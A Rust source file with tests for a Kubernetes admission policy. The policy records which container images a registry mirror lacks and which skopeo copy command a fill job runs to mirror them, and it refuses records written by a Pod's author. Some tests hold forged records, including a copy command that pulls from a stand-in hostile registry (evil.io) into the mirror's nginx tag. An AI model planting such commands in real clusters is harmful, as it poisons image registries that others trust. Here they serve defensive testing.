//! The record of source images the mirror lacks: when no target of its rule holds an image, the
//! swapping role keeps it and says so on the Pod, with a label that marks such Pods (`kubectl get
//! pods -A -l image-swapper.kubewarden.io/unmirrored`, kube-state-metrics) and an annotation
//! that names, per container, the source image, the mirror image wanted, and the copy that fills
//! it, in the form the check role's reports use. The fill job reads it, so that a new image is
//! copied within the job's period instead of the audit scanner's. A file of its own because,
//! unlike `record`, what it writes is acted on.
//!
//! An entry is always the policy's own: computed from the container's image and the settings,
//! never taken from the annotation a Pod's author may have written, since the fill job runs
//! the copies it names with push rights.

use std::collections::BTreeMap;

use serde_json::{Map, Value, json};

use crate::decide::images::source_image;
use crate::policy::Policy;

use super::copies::{fill_command, signature_command};
use crate::object::{annotation, named_images, object_entry};
use crate::signatures;

/// Per container: the source image as the container names it, the mirror image wanted (the first
/// target's), and the copy that fills it.
pub const UNMIRRORED_ANNOTATION: &str = "image-swapper.kubewarden.io/unmirrored-images";
/// On a Pod that runs at least one source image the mirror lacks.
pub const UNMIRRORED_LABEL: &str = "image-swapper.kubewarden.io/unmirrored";

/// The most the annotation holds: the API server refuses a Pod whose annotations together pass
/// 256 KiB, so a Pod of very many unmirrored containers records the first that fit (the label
/// still marks it, and the check role reports them all).
const RECORD_MAX_BYTES: usize = 32 * 1024;

/// The entry for a container running `image`, when a rule routes it; `None` otherwise. When
/// `signatures` has rules for the image, and its digest is known (the image pins it, or the
/// mirror served it unverified), the entry also names the copy of its signature
/// (`signatureCopy`), which the fill job runs after the image's.
fn entry(image: &str, policy: &Policy, digest: Option<&str>) -> Option<Value> {
    let source = source_image(image, policy)?;
    let first = source.targets.first()?;
    let mut entry = json!({"source": image, "mirror": first.lookup, "copy": fill_command(&source)});
    let digest = first.digest().or(digest);
    if let Some(digest) = digest.filter(|_| signatures::covers(&policy.signatures, image)) {
        entry["signatureCopy"] =
            Value::String(signature_command(&source.name, first.repository(), digest));
    }
    Some(entry)
}

/// The containers the live record says were kept as unmirrored, with the image they then ran.
fn recorded(object: &Value) -> BTreeMap<String, String> {
    let Some(text) = annotation(object, UNMIRRORED_ANNOTATION) else {
        return BTreeMap::new();
    };
    serde_json::from_str::<Map<String, Value>>(text)
        .map(|entries| {
            entries
                .into_iter()
                .filter_map(|(name, entry)| {
                    Some((name, entry.get("source")?.as_str()?.to_string()))
                })
                .collect()
        })
        .unwrap_or_default()
}

/// Who sends an update, as far as the record goes.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Requester {
    /// One of `fillJobUsernames`: it copied the images of the entries its update drops, so those
    /// go (the kept-Pods alert then clears), and the rest stay.
    FillJob,
    /// Anyone else: the live record stays whatever the update says of it, since the fill job
    /// acts on it and a hand-made change could hide an image the mirror lacks.
    Other,
}

impl Requester {
    pub(crate) fn of(username: &str, policy: &Policy) -> Requester {
        if policy
            .fill_job_usernames
            .iter()
            .any(|name| name == username)
        {
            Requester::FillJob
        } else {
            Requester::Other
        }
    }
}

/// Rewrites the record so that it describes the Pod as it leaves admission: a container has an
/// entry when this admission kept its image because no target holds it (`absent`), or when
/// `previous` (the live Pod's record, on update) had one for the image it still runs, unless
/// the fill job's update dropped it; every other entry goes, and the annotation and the label
/// go when none is left. Says whether it changed the Pod.
pub(crate) fn record_unmirrored(
    object: &mut Value,
    previous: Option<&Value>,
    requester: Requester,
    unmirrored: &BTreeMap<String, Option<String>>,
    policy: &Policy,
) -> bool {
    let mut carried = previous.map(recorded).unwrap_or_default();
    if requester == Requester::FillJob {
        let left = recorded(object);
        carried.retain(|name, source| left.get(name) == Some(source));
    }
    let mut entries = Map::new();
    let mut size = 2;
    for (name, image) in named_images(object) {
        let still = carried.get(name).is_some_and(|source| source == image);
        let kept = unmirrored.get(image);
        if (kept.is_some() || still)
            && let Some(entry) = entry(image, policy, kept.cloned().flatten().as_deref())
        {
            let entry_size = name.len() + entry.to_string().len() + 4;
            if size + entry_size > RECORD_MAX_BYTES {
                continue;
            }
            size += entry_size;
            entries.insert(name.to_string(), entry);
        }
    }
    let text = (!entries.is_empty()).then(|| Value::Object(entries).to_string());
    // Only "true" marks the Pod (the alert and the fill job select on it): a label set to any
    // other value is put back.
    let has_label = object
        .pointer("/metadata/labels")
        .and_then(|labels| labels.get(UNMIRRORED_LABEL))
        .is_some_and(|value| value == "true");
    if text.as_deref() == annotation(object, UNMIRRORED_ANNOTATION) && has_label == text.is_some() {
        return false;
    }
    let Some(metadata) = object
        .as_object_mut()
        .and_then(|pod| object_entry(pod, "metadata"))
    else {
        return false;
    };
    match text {
        Some(text) => {
            if let Some(annotations) = object_entry(metadata, "annotations") {
                annotations.insert(UNMIRRORED_ANNOTATION.to_string(), Value::String(text));
            }
            if let Some(labels) = object_entry(metadata, "labels") {
                labels.insert(UNMIRRORED_LABEL.to_string(), Value::String("true".into()));
            }
        }
        None => {
            for field in ["annotations", "labels"] {
                if let Some(map) = metadata.get_mut(field).and_then(Value::as_object_mut) {
                    map.remove(UNMIRRORED_ANNOTATION);
                    map.remove(UNMIRRORED_LABEL);
                }
            }
        }
    }
    true
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decide::tests::policy_from;
    use rstest::rstest;

    const SETTINGS: &str = r#"{"mirrors":[
        {"source":"docker.io","targets":[{"target":"m.io/hub"},{"target":"us.m.io/hub"}]}]}"#;
    const NGINX_COPY: &str = "skopeo copy --all --preserve-digests docker://docker.io/library/nginx:1.27 docker://m.io/hub/library/nginx:1.27";

    fn pod(images: &[(&str, &str)], metadata: Value) -> Value {
        let containers: Vec<Value> = images
            .iter()
            .map(|(name, image)| json!({"name": name, "image": image}))
            .collect();
        json!({"metadata": metadata, "spec": {"containers": containers}})
    }

    fn record(object: &Value) -> Option<Value> {
        serde_json::from_str(annotation(object, UNMIRRORED_ANNOTATION)?).ok()
    }

    /// Images kept because no target holds them, none with a digest learned.
    fn kept(images: &[&str]) -> BTreeMap<String, Option<String>> {
        images
            .iter()
            .map(|image| (image.to_string(), None))
            .collect()
    }

    fn label(object: &Value) -> Option<&Value> {
        object.pointer("/metadata/labels")?.get(UNMIRRORED_LABEL)
    }

    #[test]
    fn an_image_no_target_holds_is_recorded_with_the_copy_that_fills_the_first_target() {
        let policy = policy_from(SETTINGS);
        let mut object = pod(&[("web", "nginx:1.27"), ("side", "busybox:1")], json!({}));
        let absent = kept(&["nginx:1.27"]);
        assert!(record_unmirrored(
            &mut object,
            None,
            Requester::Other,
            &absent,
            &policy
        ));
        assert_eq!(
            record(&object),
            Some(json!({"web": {
                "source": "nginx:1.27",
                "mirror": "m.io/hub/library/nginx:1.27",
                "copy": NGINX_COPY,
            }}))
        );
        assert_eq!(label(&object), Some(&json!("true")));
    }

    /// A pinned image: the copy brings its digest to a tag of its own, as the check role's does.
    #[test]
    fn a_pinned_image_is_copied_by_digest_to_a_tag_of_its_own() {
        let policy = policy_from(SETTINGS);
        let digest = format!("sha256:{}", "a".repeat(64));
        let image = format!("nginx:1.27@{digest}");
        let mut object = pod(&[("web", &image)], json!({}));
        record_unmirrored(
            &mut object,
            None,
            Requester::Other,
            &kept(&[image.as_str()]),
            &policy,
        );
        let entry = record(&object).expect("recorded")["web"].clone();
        assert_eq!(
            entry["copy"],
            json!(format!(
                "skopeo copy --all --preserve-digests docker://docker.io/library/nginx@{digest} docker://m.io/hub/library/nginx:sha256-{}",
                "a".repeat(64)
            ))
        );
        assert_eq!(
            entry["mirror"],
            json!(format!("m.io/hub/library/nginx@{digest}"))
        );
    }

    #[rstest]
    #[case::nothing_absent(&[], json!({}))]
    #[case::an_image_no_rule_routes(&["quay.io/x/y:1"], json!({}))]
    fn a_pod_with_nothing_to_record_carries_neither(
        #[case] absent: &[&str],
        #[case] metadata: Value,
    ) {
        let policy = policy_from(SETTINGS);
        let mut object = pod(&[("web", "quay.io/x/y:1")], metadata);
        let absent = kept(absent);
        assert!(!record_unmirrored(
            &mut object,
            None,
            Requester::Other,
            &absent,
            &policy
        ));
        assert_eq!((record(&object), label(&object)), (None, None));
    }

    /// A record the Pod's author wrote (on create, or added by a later update) is not the
    /// policy's: it goes, label and all, so that the fill job never runs a copy it names.
    #[rstest]
    #[case::written_at_create(None)]
    #[case::added_by_an_update(Some(json!({"metadata": {}})))]
    fn a_record_the_policy_did_not_write_is_removed(#[case] previous: Option<Value>) {
        let policy = policy_from(SETTINGS);
        let forged = json!({"web": {"source": "nginx:1.27", "mirror": "m.io/hub/library/nginx:1.27",
            "copy": "skopeo copy --all --preserve-digests docker://evil.io/x:1 docker://m.io/hub/library/nginx:1.27"}});
        let metadata = json!({
            "annotations": {UNMIRRORED_ANNOTATION: forged.to_string()},
            "labels": {UNMIRRORED_LABEL: "true", "app": "web"},
        });
        let mut object = pod(&[("web", "nginx:1.27")], metadata);
        assert!(record_unmirrored(
            &mut object,
            previous.as_ref(),
            Requester::Other,
            &kept(&[]),
            &policy
        ));
        assert_eq!((record(&object), label(&object)), (None, None));
        assert_eq!(object["metadata"]["labels"]["app"], json!("web"));
    }

    /// On update, a container the live record names and that still runs that image keeps its
    /// entry, rewritten by the policy (a copy edited in the live record does not survive); a
    /// container whose image changed loses it.
    #[test]
    fn an_update_keeps_the_entries_of_unchanged_containers_and_drops_the_others() {
        let policy = policy_from(SETTINGS);
        let live = json!({"web": {"source": "nginx:1.27", "copy": "edited"},
                          "side": {"source": "busybox:1"}});
        let previous = pod(
            &[("web", "nginx:1.27"), ("side", "busybox:1")],
            json!({"annotations": {UNMIRRORED_ANNOTATION: live.to_string()}}),
        );
        let mut object = pod(
            &[
                ("web", "nginx:1.27"),
                ("side", "m.io/hub/library/busybox:1@sha256:x"),
            ],
            previous["metadata"].clone(),
        );
        assert!(record_unmirrored(
            &mut object,
            Some(&previous),
            Requester::Other,
            &kept(&[]),
            &policy
        ));
        let record = record(&object).expect("recorded");
        assert_eq!(record.as_object().map(Map::len), Some(1), "{record}");
        assert_eq!(record["web"]["copy"], json!(NGINX_COPY));
        assert_eq!(label(&object), Some(&json!("true")));
    }

    /// The fill job's update drops the entries it filled and keeps the rest; the same update
    /// from anyone else gets the whole live record back, label and all.
    #[rstest]
    #[case::fill_job_drops_one(Requester::FillJob, &["side"], &["side"], Some("true"))]
    #[case::fill_job_drops_all(Requester::FillJob, &[], &[], None)]
    #[case::anyone_else_drops_none(Requester::Other, &[], &["side", "web"], Some("true"))]
    fn an_update_drops_only_the_entries_the_fill_job_filled(
        #[case] requester: Requester,
        #[case] left_by_update: &[&str],
        #[case] expected: &[&str],
        #[case] expected_label: Option<&str>,
    ) {
        let policy = policy_from(SETTINGS);
        let images = [("web", "nginx:1.27"), ("side", "busybox:1")];
        let mut previous = pod(&images, json!({}));
        assert!(record_unmirrored(
            &mut previous,
            None,
            Requester::Other,
            &kept(&["nginx:1.27", "busybox:1"]),
            &policy
        ));
        let live = record(&previous).expect("recorded");
        let mut object = pod(&images, json!({}));
        if !left_by_update.is_empty() {
            let left: Map<String, Value> = left_by_update
                .iter()
                .map(|name| (name.to_string(), live[*name].clone()))
                .collect();
            object["metadata"] = json!({
                "annotations": {UNMIRRORED_ANNOTATION: Value::Object(left).to_string()},
                "labels": {UNMIRRORED_LABEL: "true"},
            });
        }
        record_unmirrored(&mut object, Some(&previous), requester, &kept(&[]), &policy);
        let names: Vec<String> = record(&object)
            .and_then(|r| r.as_object().map(|m| m.keys().cloned().collect()))
            .unwrap_or_default();
        assert_eq!(names, expected, "{object}");
        assert_eq!(label(&object), expected_label.map(|l| json!(l)).as_ref());
    }

    /// A label relabelled to another value ("false") while the record stays is put back, or
    /// the alert and the fill job, which select on "true", would lose the Pod.
    #[test]
    fn a_label_set_to_another_value_is_put_back() {
        let policy = policy_from(SETTINGS);
        let images = [("web", "nginx:1.27")];
        let mut previous = pod(&images, json!({}));
        record_unmirrored(
            &mut previous,
            None,
            Requester::Other,
            &kept(&["nginx:1.27"]),
            &policy,
        );
        let mut object = previous.clone();
        object["metadata"]["labels"][UNMIRRORED_LABEL] = json!("false");
        assert!(record_unmirrored(
            &mut object,
            Some(&previous),
            Requester::Other,
            &kept(&[]),
            &policy
        ));
        assert_eq!(label(&object), Some(&json!("true")), "{object}");
    }

    /// The fill job can only drop: an entry its update adds, or one it rewrites to another
    /// source, is not the live record's and does not survive.
    #[test]
    fn the_fill_job_cannot_add_or_change_an_entry() {
        let policy = policy_from(SETTINGS);
        let images = [("web", "nginx:1.27"), ("side", "busybox:1")];
        let mut previous = pod(&images, json!({}));
        record_unmirrored(
            &mut previous,
            None,
            Requester::Other,
            &kept(&["nginx:1.27"]),
            &policy,
        );
        let forged = json!({"web": {"source": "evil.io/x:1"}, "side": {"source": "busybox:1"}});
        let mut object = pod(
            &images,
            json!({"annotations": {UNMIRRORED_ANNOTATION: forged.to_string()}}),
        );
        record_unmirrored(
            &mut object,
            Some(&previous),
            Requester::FillJob,
            &kept(&[]),
            &policy,
        );
        assert_eq!((record(&object), label(&object)), (None, None), "{object}");
    }

    #[test]
    fn requesters_are_told_apart_by_the_exact_username() {
        let policy = policy_from(
            r#"{"mirrors":[{"source":"docker.io","target":"m.io/hub"}],
                "fillJobUsernames":["system:serviceaccount:kubewarden:fill-mirror"]}"#,
        );
        assert_eq!(
            [
                "system:serviceaccount:kubewarden:fill-mirror",
                "system:serviceaccount:kubewarden:fill-mirror2",
                "system:serviceaccount:other:fill-mirror",
                "",
            ]
            .map(|name| Requester::of(name, &policy)),
            [
                Requester::FillJob,
                Requester::Other,
                Requester::Other,
                Requester::Other
            ]
        );
    }

    #[test]
    fn a_pod_of_very_many_unmirrored_containers_records_what_fits() {
        let policy = policy_from(SETTINGS);
        let images: Vec<(String, String)> = (0..2_000)
            .map(|i| (format!("c{i}"), format!("app{i}:1")))
            .collect();
        let named: Vec<(&str, &str)> = images
            .iter()
            .map(|(n, i)| (n.as_str(), i.as_str()))
            .collect();
        let mut object = pod(&named, json!({}));
        let names: Vec<&str> = images.iter().map(|(_, i)| i.as_str()).collect();
        let absent = kept(&names);
        assert!(record_unmirrored(
            &mut object,
            None,
            Requester::Other,
            &absent,
            &policy
        ));
        let text = annotation(&object, UNMIRRORED_ANNOTATION).unwrap_or_default();
        assert!(text.len() <= RECORD_MAX_BYTES, "{}", text.len());
        assert!(record(&object).and_then(|r| r.as_object().map(Map::len)) > Some(100));
        assert_eq!(label(&object), Some(&json!("true")));
    }

    #[test]
    fn the_record_is_rewritten_only_when_it_changes() {
        let policy = policy_from(SETTINGS);
        let mut object = pod(&[("web", "nginx:1.27")], json!({}));
        let absent = kept(&["nginx:1.27"]);
        assert!(record_unmirrored(
            &mut object,
            None,
            Requester::Other,
            &absent,
            &policy
        ));
        let previous = object.clone();
        assert!(!record_unmirrored(
            &mut object,
            Some(&previous),
            Requester::Other,
            &absent,
            &policy
        ));
        assert!(!record_unmirrored(
            &mut object,
            Some(&previous),
            Requester::Other,
            &kept(&[]),
            &policy
        ));
    }
}
